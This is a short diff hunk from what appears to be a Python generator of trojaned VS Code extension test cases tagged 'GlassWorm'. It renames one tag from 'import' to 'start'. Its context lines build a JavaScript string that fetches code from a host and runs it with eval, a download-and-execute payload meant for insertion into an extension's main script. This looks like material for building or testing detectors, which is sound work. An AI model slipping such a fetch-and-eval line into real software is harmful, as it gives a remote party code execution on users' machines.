@@ -62,7 +62,7 @@ def vscode_insert_of_two_parts(it: Update) -> None:
     it.payload("out/book.js", "out/main.js", "media/words.json", "media/verbs.json", shown=f"https://{host}/snip")
 
 
-@trojan("snipbook", "vsix", "import", "remote code", "xor", "GlassWorm")
+@trojan("snipbook", "vsix", "start", "remote code", "xor", "GlassWorm")
 def vscode_main_decodes(it: Update) -> None:
     host = it.host()
     code = f"fetch('https://{host}/g').then(r=>r.text()).then(t=>eval(t))"
